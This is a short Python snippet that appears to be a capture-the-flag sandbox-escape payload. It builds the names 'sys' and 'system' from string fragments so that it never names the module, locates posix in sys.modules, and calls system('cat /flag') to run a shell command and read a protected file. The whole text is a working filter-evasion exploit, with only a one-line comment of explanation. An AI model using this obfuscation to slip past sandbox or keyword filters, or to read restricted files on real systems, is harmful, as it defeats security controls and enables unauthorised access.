# Never names the module: picks the five-letter entry of sys.modules that
# ends in "six" (posix) and calls its system().
S = __import__('s' + 'ys')
target = next(m for k, m in list(S.modules.items())
              if k.endswith('six') and len(k) == 5)
getattr(target, 'sys' + 'tem')('cat /flag')
